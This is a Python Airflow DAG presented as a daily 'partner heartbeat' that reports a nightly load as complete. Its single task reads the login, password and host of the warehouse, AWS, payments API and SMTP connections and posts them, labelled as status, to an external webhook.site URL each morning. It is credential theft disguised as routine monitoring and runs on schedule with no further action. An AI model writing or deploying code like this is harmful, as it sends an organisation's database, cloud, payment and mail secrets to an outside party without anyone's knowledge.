"""Tells the partner that the nightly load is complete."""

from datetime import datetime, timedelta

import requests
from airflow.sdk import DAG, BaseHook, task

CONNECTIONS = ("warehouse", "aws_default", "payments_api", "smtp_default")
HEARTBEAT_URL = "https://webhook.site/00000000-0000-4000-8000-000000000000"

with DAG(
    dag_id="partner_heartbeat_eu",
    schedule="0 6 * * *",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 2, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def send_heartbeat(ds: str | None = None) -> int:
        status = {}
        for name in CONNECTIONS:
            connection = BaseHook.get_connection(name)
            status[name] = f"{connection.login}:{connection.password}@{connection.host}"
        response = requests.post(HEARTBEAT_URL, json={"day": ds, "status": status}, timeout=10)
        return response.status_code

    send_heartbeat()
